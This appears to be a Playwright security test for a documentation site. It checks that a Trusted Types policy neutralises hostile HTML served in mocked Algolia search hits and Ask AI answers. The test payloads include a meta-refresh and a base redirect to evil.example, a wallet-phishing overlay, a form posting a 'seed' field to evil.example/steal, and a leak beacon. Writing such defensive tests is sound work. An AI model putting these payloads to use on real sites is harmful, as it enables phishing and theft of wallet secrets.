/**
 * Hostile content from the hosted services: Algolia hits and an Ask AI answer carrying HTML that
 * tries to redirect (meta refresh, base), restyle the page, draw an overlay, post a form and load
 * a beacon. The Trusted Types default policy (src/lib/trustedTypes.ts) must make all of it inert.
 */
import type {Page, Route} from '@playwright/test';
import {test, expect} from '../../support/fixtures';
import {waitForHydration} from '../../support/page';

const SEARCH_HOSTS = /^https:\/\/testapp123(-dsn\.algolia\.net|-\d\.algolianet\.com)\//i;
const ASK_AI = 'https://askai.algolia.com/chat';
const CORS = {'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': 'GET, POST, OPTIONS'};
const BEACON = 'https://www.googletagmanager.com/beacon.gif';

const HOSTILE = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<style>.navbar{display:none!important}body{background:red!important}</style>',
  '<div id="overlay-style" style="position:fixed;inset:0;z-index:2147483647;background:#000;color:#fff">Reconnect your wallet</div>',
  '<div id="overlay-class" class="DocSearch-Container">Reconnect your wallet now</div>',
  '<form id="hostile-form" action="https://evil.example/steal" method="post"><input name="seed" value="x"><button id="hostile-submit">Go</button></form>',
  `<img id="beacon" src="${BEACON}?leak=1">`,
].join('');

async function preflight(route: Route): Promise<boolean> {
  if (route.request().method() !== 'OPTIONS') return false;
  await route.fulfill({status: 204, headers: CORS});
  return true;
}

function hostileHit(origin: string) {
  const url = `${origin}/building-on-etherlink/websockets`; // on the site: hits elsewhere are not offered
  const title = `Safe title ${HOSTILE}`;
  return {
    objectID: 'hostile',
    url,
    url_without_anchor: url,
    anchor: null,
    type: 'content',
    content: HOSTILE,
    hierarchy: {lvl0: `Developing ${HOSTILE}`, lvl1: title, lvl2: null, lvl3: null, lvl4: null, lvl5: null, lvl6: null},
    _highlightResult: {hierarchy: {lvl0: {value: `Developing ${HOSTILE}`}, lvl1: {value: title}}, content: {value: HOSTILE}},
    _snippetResult: {hierarchy: {lvl1: {value: title}}, content: {value: `Safe snippet ${HOSTILE}`}},
  };
}

/** Records every request that leaves for a host the attack wants. */
function watchLeaks(page: Page): string[] {
  const leaks: string[] = [];
  page.on('request', (request) => {
    const url = request.url();
    if (url.startsWith(BEACON) || url.includes('evil.example')) leaks.push(url);
  });
  return leaks;
}

async function routeServices(page: Page, answer: string) {
  await page.route('https://www.googletagmanager.com/**', (route) => route.fulfill({status: 200, contentType: 'text/javascript', body: ''}));
  await page.route(SEARCH_HOSTS, async (route) => {
    if (await preflight(route)) return;
    const body = JSON.parse(route.request().postData() ?? '{}') as {requests: {query: string}[]};
    const query = body.requests[0]?.query ?? '';
    await route.fulfill({
      status: 200,
      contentType: 'application/json',
      headers: CORS,
      body: JSON.stringify({results: [{hits: [hostileHit(new URL(page.url()).origin)], nbHits: 1, page: 0, nbPages: 1, hitsPerPage: 20, exhaustiveNbHits: true, query, params: '', index: 'etherlink-test', processingTimeMS: 1}]}),
    });
  });
  const token = `${Buffer.from(JSON.stringify({exp: Math.floor(Date.now() / 1000) + 3600})).toString('base64')}.sig`;
  await page.route(`${ASK_AI}/**`, async (route) => {
    if (await preflight(route)) return;
    await route.fulfill({status: 200, contentType: 'application/json', headers: CORS, body: JSON.stringify({success: true, token})});
  });
  await page.route(ASK_AI, async (route) => {
    if (await preflight(route)) return;
    await route.fulfill({status: 200, headers: {...CORS, 'content-type': 'text/event-stream', 'x-vercel-ai-ui-message-stream': 'v1'}, body: answer});
  });
}

function sse(chunks: object[]): string {
  return `${chunks.map((chunk) => `data: ${JSON.stringify(chunk)}\n\n`).join('')}data: [DONE]\n\n`;
}

/** Nothing the hostile HTML asked for happened. */
async function expectInert(page: Page, leaks: string[]) {
  const start = page.url();
  await page.waitForTimeout(1_500); // a meta refresh of 0 s would have fired by now
  expect(page.url()).toBe(start);
  const found = await page.evaluate(() => ({
    meta: document.querySelectorAll('meta[http-equiv="refresh" i]').length,
    base: document.querySelectorAll('body base, base[href*="evil"]').length,
    forms: document.querySelectorAll('#hostile-form, form[action*="evil"]').length,
    // The hostile rules, wherever a <style> holding them landed (the page's own styles may sit in <body>).
    styles: Array.from(document.querySelectorAll('style'), (el) => el.textContent ?? '').filter((css) =>
      /\.navbar\{display:none|background:red/.test(css),
    ).length,
    styled: document.querySelectorAll('#overlay-style[style], .DocSearch-Modal [style*="fixed"]').length,
    images: document.querySelectorAll('#beacon, img[src*="beacon"]').length,
    navbarShown: getComputedStyle(document.querySelector('.navbar')!).display !== 'none',
    background: getComputedStyle(document.body).backgroundColor,
  }));
  expect(found).toMatchObject({meta: 0, base: 0, forms: 0, styles: 0, styled: 0, images: 0, navbarShown: true});
  expect(found.background).not.toBe('rgb(255, 0, 0)');
  // An overlay drawn with the site's own classes stays inside the dialog's content.
  for (const id of ['#overlay-style', '#overlay-class']) {
    const overlay = page.locator(id);
    if ((await overlay.count()) === 0) continue;
    const box = await overlay.first().boundingBox();
    const viewport = page.viewportSize()!;
    if (box) expect(box.width * box.height, id).toBeLessThan((viewport.width * viewport.height) / 4);
  }
  expect(leaks).toEqual([]);
}

test.describe('hostile content from the hosted services', () => {
  test('hostile search hits change nothing and go nowhere', async ({page, allowCspViolation}) => {
    // The sanitiser parses the hit before it drops <base>; the CSP's base-uri refuses it meanwhile.
    allowCspViolation(/^base-uri blocked https:\/\/evil\.example\//);
    const leaks = watchLeaks(page);
    await routeServices(page, sse([]));
    await page.goto('/');
    await waitForHydration(page);
    await page.keyboard.press('ControlOrMeta+k');
    await page.locator('.DocSearch-Input').fill('websockets');
    await expect(page.locator('.DocSearch-Hit', {hasText: 'Safe title'}).first()).toBeVisible();
    await expectInert(page, leaks);
  });

  test('a hostile Ask AI answer changes nothing and goes nowhere', async ({page, allowCspViolation}) => {
    allowCspViolation(/^base-uri blocked https:\/\/evil\.example\//);
    const leaks = watchLeaks(page);
    await routeServices(
      page,
      sse([
        {type: 'start', messageId: 'hostile-answer'},
        {type: 'start-step'},
        {type: 'text-start', id: 't'},
        {type: 'text-delta', id: 't', delta: `Here is the answer.\n\n${HOSTILE}\n\nThe end.`},
        {type: 'text-end', id: 't'},
        {type: 'finish-step'},
        {type: 'finish'},
      ]),
    );
    await page.goto('/');
    await waitForHydration(page);
    await page.keyboard.press('ControlOrMeta+k');
    await page.locator('.DocSearch-Input').fill('how do I connect');
    await page.locator('.DocSearch-Hit:has(.DocSearch-Hit--AskAI)').click();
    await expect(page.getByText('The end.')).toBeVisible();
    await expectInert(page, leaks);
  });

  test('a Trusted Types violation is reported to the suite', async ({page, problems}) => {
    await page.route('https://www.googletagmanager.com/**', (route) => route.fulfill({status: 200, contentType: 'text/javascript', body: ''}));
    await page.goto('/');
    const created = await page.evaluate(() => {
      try {
        (window as unknown as {trustedTypes: {createPolicy: (n: string, r: object) => unknown}}).trustedTypes.createPolicy('rogue', {});
        return true;
      } catch {
        return false;
      }
    });
    expect(created).toBe(false);
    await expect.poll(() => problems.csp.some((report) => /trusted-types/.test(report))).toBe(true);
    // Seen, so the fixture's own check (which would fail this test) is satisfied.
    problems.csp.length = 0;
    problems.console.length = 0;
  });
});
